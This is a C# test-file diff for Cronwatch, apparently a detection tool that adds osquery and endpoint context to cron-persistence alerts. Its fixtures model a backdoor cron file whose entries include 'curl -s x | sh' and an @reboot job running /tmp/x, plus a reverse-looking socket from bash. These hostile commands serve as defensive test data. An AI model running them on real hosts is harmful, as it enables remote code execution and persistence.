@@ -2,6 +2,7 @@ using System.Text;
 using System.Text.Json;
 using Cronwatch.Events;
 using Cronwatch.Sinks.Alerts;
+using Cronwatch.Support;
 
 namespace Cronwatch.Sinks.Tests;
 
@@ -15,6 +16,8 @@ public sealed class AlertDocumentTests
          "file":{"path":"/etc/cron.d/backdoor","name":"backdoor"},
          "process":{"pid":4711,"entity_id":"p1","name":"bash"},"user":{"id":0,"name":"root"}}
         """;
+
+    private static readonly DateTimeOffset At = new(2026, 1, 15, 9, 55, 0, TimeSpan.Zero);
 
     internal static readonly GuideAnswers Answers = new(
         new AncestryAnswer(AnswerStatus.Late,
@@ -70,6 +73,53 @@ public sealed class AlertDocumentTests
                 Start = new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero),
             },
         ]),
+        RelatedAlerts = new(AnswerStatus.Resolved, new(2026, 1, 13, 9, 57, 12, TimeSpan.Zero), new(2026, 1, 15, 9, 57, 17, TimeSpan.Zero))
+        {
+            Host = new(21, [new("r-1", "Cron Job Created or Modified", 20), new("r-2", null, 1)],
+                [new("a0", "r-1", new(2026, 1, 14, 3, 0, 0, TimeSpan.Zero), "medium", "web-01")]),
+            User = AlertGroup.None,
+            Scope = UserScope.AllHosts,
+            Rules = [new("r-3", "Systemd Timer Created", 0)],
+        },
+        Prevalence = new(AnswerStatus.Resolved)
+        {
+            SameExecutableAndPath = new(1, 1, new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero), new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero)),
+            SameExecutable = new(40, 52, new(2025, 3, 1, 0, 0, 0, TimeSpan.Zero), new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero)),
+            SameFileHash = Sighting.None,
+        },
+        Processes = new(AnswerStatus.Resolved, At, true, 3, [new(new("0", "root"), 2), new(new("1030", null), 1)], 2,
+            [new() { Pid = 4711, Name = "bash", Executable = "/usr/bin/bash", Start = new(2026, 1, 15, 9, 57, 11, TimeSpan.Zero) }]),
+        Osquery = new()
+        {
+            Account = new(AnswerStatus.Resolved, At.AddMinutes(-55), 1,
+                [SaidRow.Of(OsqueryQuery.Users, "uid=0; gid=0; username=root; description=root; directory=/root; shell=/bin/bash")]),
+            Logins = new(AnswerStatus.Resolved, At, 2,
+            [
+                SaidRow.Of(OsqueryQuery.Logins, "type=user; user=alice; tty=pts/0; host=35.235.243.210; time=1768470000; pid=4600"),
+                SaidRow.Of(OsqueryQuery.Logins, "type=dead; user=alice; tty=pts/1; time=0"),
+            ]),
+            CronAccess = new(AnswerStatus.Resolved, At, 2,
+            [
+                new("/etc/crontab", SaidRow.Of(OsqueryQuery.CronControl, "path=/etc/crontab; mode=0644; uid=0; gid=0; size=1042; mtime=1767225600; ctime=1767225601; btime=0")),
+                new("/etc/cron.allow", null),
+            ]),
+            CronFiles = new(AnswerStatus.Late, At.AddMinutes(-55), 300,
+            [
+                new(SaidRow.Of(OsqueryQuery.CronFiles, "path=/etc/cron.d/x; type=regular; mode=0644; size=62; mtime=1767225600; ctime=1767225601; btime=1767225600"),
+                    "root", "1002"),
+            ]),
+            Commands = new(AnswerStatus.Late, At, 2,
+            [
+                SaidRow.Of(OsqueryQuery.Crontab, "minute=*/5; hour=0; day_of_month=*; month=*; day_of_week=1-5; command=root curl -s x | sh"),
+                SaidRow.Of(OsqueryQuery.Crontab, "event=@reboot; command=root /tmp/x"),
+            ]),
+            Ports = new(AnswerStatus.Resolved, At, 1,
+                [new(SaidRow.Of(OsqueryQuery.Ports, "pid=812; address=0.0.0.0; port=22; protocol=6; family=2; path=/run/x"), "sshd", false)]),
+            SubjectSockets = new(AnswerStatus.Resolved, At, 1,
+            [
+                new(SaidRow.Of(OsqueryQuery.Sockets, "pid=4711; family=2; remote_address=203.0.113.66; remote_port=443; state=ESTABLISHED"), "bash", true),
+            ]),
+        },
         CronChanges = new(AnswerStatus.Resolved, new(2026, 1, 13, 9, 57, 12, TimeSpan.Zero), new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero), 1,
         [
             new("0f", new(2026, 1, 14, 3, 0, 0, TimeSpan.Zero))
@@ -177,10 +227,10 @@ public sealed class AlertDocumentTests
           "cronwatch.context.status": "late",
           "cronwatch.context.held_ms": 120,
           "cronwatch.context.revision": 0,
-          "cronwatch.context.resolved": 5,
-          "cronwatch.context.late": 1,
+          "cronwatch.context.resolved": 11,
+          "cronwatch.context.late": 2,
           "cronwatch.context.missing": 0,
-          "cronwatch.context.not_collected": 0,
+          "cronwatch.context.not_collected": 1,
           "guide.ancestry": {
             "status": "late", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint", "count": 2,
             "links": [
@@ -196,7 +246,8 @@ public sealed class AlertDocumentTests
             "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint", "name": "root",
             "real": {"id": "1030"}, "effective": {"id": "0", "name": "root"},
             "behind": {"id": "1030", "name": "alice", "depth": 1, "entity_id": "p0", "basis": "ancestor"},
-            "elevated": true
+            "elevated": true, "uid": 0, "gid": 0, "description": "root", "directory": "/root", "shell": "/bin/bash",
+            "record": {"status": "resolved", "as_of": "2026-01-15T09:00:00.000Z", "source": "osquery", "count": 1}
           },
           "guide.change_origin": {
             "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint", "kind": "package_manager",
@@ -206,7 +257,12 @@ public sealed class AlertDocumentTests
             "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint",
             "path": "/etc/cron.d/backdoor", "original_path": "/etc/cron.d/.x", "name": "backdoor", "extension": "sh",
             "size": 62, "sha256": "cd", "entropy": 4.5, "header": "23212f62696e2f73680a", "format": "script",
-            "shebang": "#!/bin/sh"
+            "shebang": "#!/bin/sh",
+            "crontab": {"status": "late", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 2},
+            "commands": [
+              {"schedule": "*/5 0 * * 1-5", "command": "root curl -s x | sh"},
+              {"schedule": "@reboot", "command": "root /tmp/x"}
+            ]
           },
           "guide.subject": {
             "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint", "count": 21,
@@ -214,7 +270,39 @@ public sealed class AlertDocumentTests
               {"pid": 4712, "name": "curl", "executable": "/usr/bin/curl", "command_line": "curl -s x",
                "start": "2026-01-15T09:57:12.000Z"}
             ],
-            "truncated": true
+            "truncated": true,
+            "network": {"status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 1},
+            "sockets": [
+              {"pid": 4711, "family": 2, "remote_address": "203.0.113.66", "remote_port": 443, "state": "ESTABLISHED",
+               "process": "bash", "in_tree": true}
+            ]
+          },
+          "guide.related_alerts": {
+            "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "alerts",
+            "window": {"from": "2026-01-13T09:57:12.000Z", "to": "2026-01-15T09:57:17.000Z"},
+            "host": {
+              "count": 21,
+              "by_rule": [
+                {"rule_id": "r-1", "name": "Cron Job Created or Modified", "count": 20}, {"rule_id": "r-2", "count": 1}
+              ],
+              "items": [
+                {"id": "a0", "rule_id": "r-1", "time": "2026-01-14T03:00:00.000Z", "severity": "medium", "host": "web-01"}
+              ],
+              "truncated": true
+            },
+            "user": {"count": 0, "by_rule": [], "items": [], "truncated": false},
+            "scope": "all_hosts",
+            "rules": [{"rule_id": "r-3", "name": "Systemd Timer Created", "count": 0}]
+          },
+          "guide.prevalence": {
+            "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "alerts", "basis": "alerts",
+            "same_executable_and_path": {
+              "hosts": 1, "alerts": 1, "first_seen": "2026-01-15T09:57:12.000Z", "last_seen": "2026-01-15T09:57:12.000Z"
+            },
+            "same_executable": {
+              "hosts": 40, "alerts": 52, "first_seen": "2025-03-01T00:00:00.000Z", "last_seen": "2026-01-15T09:57:12.000Z"
+            },
+            "same_file_hash": {"hosts": 0, "alerts": 0}
           },
           "guide.cron_changes": {
             "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint",
@@ -225,6 +313,48 @@ public sealed class AlertDocumentTests
                "alert_id": "a0", "excluded_by": "process.name == \"dpkg\""}
             ],
             "truncated": false
+          },
+          "guide.logins": {
+            "status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 2, "active": true,
+            "logins": [
+              {"type": "user", "user": "alice", "tty": "pts/0", "host": "35.235.243.210", "time": "2026-01-15T09:40:00.000Z", "pid": 4600},
+              {"type": "dead", "user": "alice", "tty": "pts/1"}
+            ],
+            "truncated": false
+          },
+          "guide.cron_access": {
+            "status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 2,
+            "files": [
+              {"path": "/etc/crontab", "exists": true, "mode": "0644", "uid": 0, "gid": 0, "size": 1042,
+               "mtime": "2026-01-01T00:00:00.000Z", "ctime": "2026-01-01T00:00:01.000Z"},
+              {"path": "/etc/cron.allow", "exists": false}
+            ],
+            "truncated": false
+          },
+          "guide.cron_files": {
+            "status": "late", "as_of": "2026-01-15T09:00:00.000Z", "source": "osquery", "count": 300,
+            "files": [
+              {"path": "/etc/cron.d/x", "type": "regular", "mode": "0644", "owner": "root", "group": "1002", "size": 62,
+               "mtime": "2026-01-01T00:00:00.000Z", "ctime": "2026-01-01T00:00:01.000Z", "btime": "2026-01-01T00:00:00.000Z"}
+            ],
+            "truncated": true
+          },
+          "guide.processes": {
+            "status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 3,
+            "by_user": [{"user": "root", "count": 2}, {"user": "1030", "count": 1}], "count_of_user": 2,
+            "of_user": [{"pid": 4711, "name": "bash", "executable": "/usr/bin/bash", "start": "2026-01-15T09:57:11.000Z"}],
+            "truncated": true
+          },
+          "guide.listening_ports": {
+            "status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 1,
+            "ports": [
+              {"pid": 812, "address": "0.0.0.0", "port": 22, "protocol": 6, "family": 2, "path": "/run/x", "process": "sshd", "in_tree": false}
+            ],
+            "truncated": false
+          },
+          "guide.open_sockets": {
+            "status": "not_collected", "as_of": "2026-01-15T09:57:12.870Z", "source": "osquery", "count": 0,
+            "sockets": [], "truncated": false
           },
           "cronwatch.event.digest": "DIGEST",
           "kibana.alert.original_event.id": "e1",
@@ -327,12 +457,17 @@ public sealed class AlertDocumentTests
             custom = text,
         });
         var links = Enumerable.Range(0, 32).Select(i => new AncestryLink(i, LinkStatus.Resolved) { CommandLine = text, Executable = text, Name = text });
+        var group = new AlertGroup(
+            20, [.. Enumerable.Repeat(new RuleCount(text, text, 1), 20)], [.. Enumerable.Repeat(new RelatedAlert("a0", text, Hits.BuiltAt, text, text), 20)]);
         var hit = Hits.Of(json);
         var document = AlertDocument.Write(
             hit, Answers with
             {
                 Ancestry = new(AnswerStatus.Resolved, [.. links]),
                 Subject = new(AnswerStatus.Resolved, 20, [.. Enumerable.Repeat(new ChildProcess { CommandLine = text, Name = text }, 20)]),
+                RelatedAlerts = Answers.RelatedAlerts with { Host = group, User = group },
+                Processes = Answers.Processes with { OfUser = [.. Enumerable.Repeat(new ChildProcess { Executable = text, Name = text }, 50)] },
+                Osquery = Full(text),
             },
             Hits.BuiltAt, "default", "0.1.0");
         Assert.InRange(document.Length, 1, 900 * 1_024);
@@ -340,6 +475,7 @@ public sealed class AlertDocumentTests
         Assert.True(read.GetProperty("cronwatch.event.truncated").GetBoolean());
         Assert.True(read.GetProperty("guide.ancestry").GetProperty("truncated").GetBoolean());
         Assert.True(read.GetProperty("guide.subject").GetProperty("truncated").GetBoolean());
+        Assert.True(read.GetProperty("guide.related_alerts").GetProperty("host").GetProperty("truncated").GetBoolean());
         Assert.Equal(32, read.GetProperty("guide.ancestry").GetProperty("count").GetInt32());
         Assert.False(read.TryGetProperty("custom", out _));
     }
@@ -362,6 +498,26 @@ public sealed class AlertDocumentTests
         var document = Hits.Document($$"""{"custom":"{{new string('x', 200_000)}}"}""");
         Assert.Equal(200_000, document.GetProperty("custom").GetString()!.Length);
         Assert.False(document.GetProperty("cronwatch.event.truncated").GetBoolean());
+    }
+
+    private static OsqueryAnswers Full(string text)
+    {
+        var login = SaidRow.Of(OsqueryQuery.Logins, $"type={text}; user={text}; tty={text}; host={text}");
+        var file = SaidRow.Of(OsqueryQuery.CronFiles, $"path={text}; type={text}; mode={text}");
+        var line = SaidRow.Of(OsqueryQuery.Crontab, $"event={text}; command={text}");
+        var socket = new HeldSocket(SaidRow.Of(OsqueryQuery.Sockets, $"remote_address={text}; state={text}"), text, true);
+        var port = new HeldSocket(SaidRow.Of(OsqueryQuery.Ports, $"address={text}; path={text}"), text, true);
+        return new()
+        {
+            Account = new(AnswerStatus.Resolved, At, 1, [SaidRow.Of(OsqueryQuery.Users, $"description={text}; directory={text}; shell={text}")]),
+            Logins = new(AnswerStatus.Resolved, At, 20, [.. Enumerable.Repeat(login, 20)]),
+            CronFiles = new(AnswerStatus.Resolved, At, 100, [.. Enumerable.Repeat(new ListedFile(file, text, text), 100)]),
+            CronAccess = new(AnswerStatus.Resolved, At, 3, [.. Enumerable.Repeat(new ControlFile("/etc/crontab", file), 3)]),
+            Commands = new(AnswerStatus.Resolved, At, 20, [.. Enumerable.Repeat(line, 20)]),
+            Ports = new(AnswerStatus.Resolved, At, 100, [.. Enumerable.Repeat(port, 100)]),
+            Sockets = new(AnswerStatus.Resolved, At, 100, [.. Enumerable.Repeat(socket, 100)]),
+            SubjectSockets = new(AnswerStatus.Resolved, At, 20, [.. Enumerable.Repeat(socket, 20)]),
+        };
     }
 
     private static string Compact(JsonElement value) => JsonSerializer.Serialize(value);
